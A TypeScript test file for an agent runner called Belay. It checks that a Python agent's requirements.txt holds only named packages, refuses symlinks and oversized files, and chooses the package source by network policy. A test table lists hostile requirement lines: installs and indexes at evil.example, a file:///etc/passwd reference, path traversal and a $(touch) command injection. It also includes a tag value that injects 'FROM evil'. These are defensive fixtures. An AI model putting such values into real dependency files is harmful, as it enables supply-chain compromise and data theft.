// A Python agent's requirements.txt as Belay reads it: named packages only, each a pip argument;
// every way a hostile file could reach elsewhere (a URL, a path, -e, -r, an index of its own, a
// variable pip would expand, a link out of the agent's folder) refused in one line naming the
// file and the line; where the packages may come from under each network policy.
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { findRequirements, INDEX_HOSTS, installSource, parseRequirements, pipArgv, withPythonPath } from '../../../src/runner/core/run/agentRequirements.ts';
import { baseImageName, DEFAULT_BASE_TAG } from '../../../src/runner/core/backends/image-base.ts';
import { RunFailure } from '../../../src/runner/core/records/events.ts';
import { tempDir } from '../../support/temp.ts';

const tmp = tempDir('belay-requirements-');
after(() => tmp.remove());

const oneLine = (pattern: RegExp) => (error: unknown) => error instanceof RunFailure && error.failure === 'setup_error' && pattern.test(error.message) && !error.message.includes('\n');

describe('requirements.txt: what is read', () => {
  it('names, extras, versions and markers pass as they are; comments and blank lines are skipped', () => {
    const text = '\uFEFF# the agent\nrequests==2.32.3\n\nhttpx[http2, socks] >=0.27,<1  # inline comment\nopenai~=1.40\ntyping_extensions; python_version < "3.12"\nzope.interface\n';
    assert.deepEqual(parseRequirements(text, 'r.txt'), [
      { line: 2, text: 'requests==2.32.3' },
      { line: 4, text: 'httpx[http2, socks] >=0.27,<1' },
      { line: 5, text: 'openai~=1.40' },
      { line: 6, text: 'typing_extensions; python_version < "3.12"' },
      { line: 7, text: 'zope.interface' },
    ]);
    assert.deepEqual(parseRequirements('a\r\nb\r\n', 'r.txt').map((r) => r.text), ['a', 'b']);
  });

  const hostile: [string, RegExp][] = [
    ['-e git+https://evil.example/x.git#egg=x', /^r\.txt:2: "-e git\+https:\/\/evil\.example\/x\.git#egg=x" is a pip option: /],
    ['--index-url https://evil.example/simple', /^r\.txt:2: "--index-url https:\/\/evil\.example\/simple" is a pip option/],
    ['--extra-index-url=https://evil.example/simple', /is a pip option/],
    ['-i https://evil.example/simple', /is a pip option/],
    ['--find-links /etc', /is a pip option/],
    ['-r ../../other/requirements.txt', /is a pip option/],
    ['-c constraints.txt', /is a pip option/],
    ['--trusted-host evil.example', /is a pip option/],
    ['https://evil.example/pkg-1.0.tar.gz', /^r\.txt:2: "https:\/\/evil\.example\/pkg-1\.0\.tar\.gz" is not a named package: /],
    ['pkg @ https://evil.example/pkg.whl', /is not a named package/],
    ['pkg@file:///etc/passwd', /is not a named package/],
    ['../outside/project', /is not a named package/],
    ['/abs/path/to/wheel-1.0-py3-none-any.whl', /is not a named package/],
    ['./local_pkg', /is not a named package/],
    ['file:../x', /is not a named package/],
    ['pkg==${HOME}', /is not a named package/],
    ['pkg \\', /is not a named package/],
    ['pkg --install-option=--prefix=/x', /is not a named package/],
    ['pkg; os_name == "posix" or $(touch /tmp/x)', /is not a named package/],
    ['pkg\u001b[2J', /is not a named package/],
  ];
  for (const [line, pattern] of hostile) {
    it(`refused in one line: ${JSON.stringify(line)}`, () => {
      assert.throws(() => parseRequirements(`fine==1\n${line}\n`, 'r.txt'), oneLine(pattern));
    });
  }

  it('a flood of lines is refused, past the limit', () => {
    assert.throws(() => parseRequirements(Array.from({ length: 300 }, (_, i) => `p${i}`).join('\n'), 'r.txt'), oneLine(/^r\.txt:201: more than 200 requirements$/));
  });

  it('pip gets each requirement as an argument after --, with a wheelhouse only that folder and never an index', () => {
    const argv = pipArgv({ requirements: [{ line: 1, text: 'a==1' }, { line: 2, text: 'b[x]; python_version > "3"' }], source: { wheelhouse: '/srv/wheels' }, target: '/tmp/t' });
    assert.deepEqual(argv.slice(argv.indexOf('--')), ['--', 'a==1', 'b[x]; python_version > "3"']);
    assert.ok(argv.includes('--isolated') && argv.includes('--no-index'));
    assert.equal(argv[argv.indexOf('--find-links') + 1], '/srv/wheels');
    assert.equal(argv[argv.indexOf('--target') + 1], '/tmp/t');
    const fromIndex = pipArgv({ requirements: [{ line: 1, text: 'a' }], source: { index: true }, target: '/tmp/t' });
    assert.ok(!fromIndex.includes('--no-index') && !fromIndex.includes('--find-links'));
  });

  it('the packages come first on the agent\'s PYTHONPATH, before its own', () => {
    assert.equal(withPythonPath({}, '/tmp/p').PYTHONPATH, '/tmp/p');
    assert.equal(withPythonPath({ PYTHONPATH: '/mine' }, '/tmp/p').PYTHONPATH, '/tmp/p:/mine');
  });
});

describe('requirements.txt: where it is found', () => {
  const agentDir = tmp.writeTask('agent', { 'agent.py': 'print(1)\n', 'requirements.txt': 'requests\n' });

  it('beside a Python agent\'s program, named relatively or absolutely', async () => {
    const found = await findRequirements('python3 agent.py --x', agentDir);
    assert.equal(found?.file, path.join(agentDir, 'requirements.txt'));
    assert.deepEqual(found?.requirements, [{ line: 1, text: 'requests' }]);
    assert.equal((await findRequirements(`/usr/bin/python3 '${path.join(agentDir, 'agent.py')}'`, '/'))?.file, path.join(agentDir, 'requirements.txt'));
  });

  it('not for other programs, nor for an empty file', async () => {
    const other = tmp.writeTask('node-agent', { 'agent.mjs': '', 'requirements.txt': 'requests\n' });
    assert.equal(await findRequirements('node agent.mjs', other), undefined);
    const empty = tmp.writeTask('empty-agent', { 'agent.py': '', 'requirements.txt': '# nothing\n\n' });
    assert.equal(await findRequirements('python3 agent.py', empty), undefined);
    const none = tmp.writeTask('no-file', { 'agent.py': '' });
    assert.equal(await findRequirements('python3 agent.py', none), undefined);
  });

  it('a requirements.txt that is a link (out of the agent\'s folder) or a folder is refused in one line', async () => {
    const linked = tmp.writeTask('linked-agent', { 'agent.py': '' });
    writeFileSync(path.join(tmp.dir, 'elsewhere.txt'), 'requests\n');
    symlinkSync(path.join(tmp.dir, 'elsewhere.txt'), path.join(linked, 'requirements.txt'));
    await assert.rejects(findRequirements('python3 agent.py', linked), oneLine(/linked-agent\/requirements\.txt: not a regular file \(a symbolic link\)/));
    const folder = tmp.writeTask('folder-agent', { 'agent.py': '' });
    mkdirSync(path.join(folder, 'requirements.txt'));
    await assert.rejects(findRequirements('python3 agent.py', folder), oneLine(/not a regular file \(a folder or a special file\)/));
  });

  it('a file too large to be a requirements file is refused before it is read', async () => {
    const big = tmp.writeTask('big-agent', { 'agent.py': '', 'requirements.txt': 'a\n'.repeat(40_000) });
    await assert.rejects(findRequirements('python3 agent.py', big), oneLine(/requirements\.txt: 80000 bytes, more than the 65536/));
  });
});

describe('requirements.txt: where the packages come from', () => {
  const file = '/agents/a/requirements.txt';
  it('a wheelhouse, whatever the network', () => {
    for (const mode of ['no-network', 'allowlist', 'public'] as const) assert.deepEqual(installSource({ mode, allowedHosts: [] }, '/srv/w', file), { wheelhouse: '/srv/w' });
  });
  it('no network and no wheelhouse: one line saying how to name one', () => {
    assert.throws(() => installSource({ mode: 'no-network', allowedHosts: [] }, undefined, file), oneLine(/^\/agents\/a\/requirements\.txt: the agent's requirements have nowhere to come from: the agent phase has no network and no wheelhouse is named: name a folder of wheels with --wheelhouse DIR/));
  });
  it('an allowlist must name the index\'s hosts (a wildcard covering them does)', () => {
    assert.throws(() => installSource({ mode: 'allowlist', allowedHosts: ['pypi.org'] }, undefined, file), oneLine(/the agent phase's allowlist does not name files\.pythonhosted\.org: add it to allowed_hosts/));
    assert.throws(() => installSource({ mode: 'allowlist', allowedHosts: ['example.com'] }, undefined, file), oneLine(/does not name pypi\.org and files\.pythonhosted\.org: add them/));
    assert.throws(() => installSource({ mode: 'allowlist', allowedHosts: ['pypi.org:8080', 'files.pythonhosted.org'] }, undefined, file), oneLine(/does not name pypi\.org:?/));
    assert.deepEqual(installSource({ mode: 'allowlist', allowedHosts: [...INDEX_HOSTS] }, undefined, file), { index: true });
    assert.deepEqual(installSource({ mode: 'allowlist', allowedHosts: ['pypi.org', '*.pythonhosted.org'] }, undefined, file), { index: true });
  });
  it('public: the index', () => {
    assert.deepEqual(installSource({ mode: 'public', allowedHosts: [] }, undefined, file), { index: true });
  });
});

describe('the base image\'s name', () => {
  it('localhost/belay-base with BELAY_BASE_TAG\'s tag, bookworm by default; a bad tag is one line', () => {
    assert.equal(baseImageName({}), `localhost/belay-base:${DEFAULT_BASE_TAG}`);
    assert.equal(baseImageName({ BELAY_BASE_TAG: ' ' }), 'localhost/belay-base:bookworm');
    assert.equal(baseImageName({ BELAY_BASE_TAG: 'bookworm-git' }), 'localhost/belay-base:bookworm-git');
    for (const bad of ['../x', 'a b', 'x:y', '-x', 'a'.repeat(200), 'tag\nFROM evil']) {
      assert.throws(() => baseImageName({ BELAY_BASE_TAG: bad }), (error: Error) => /^BELAY_BASE_TAG=".*": not an image tag/.test(error.message) && !error.message.includes('\n'));
    }
  });
});
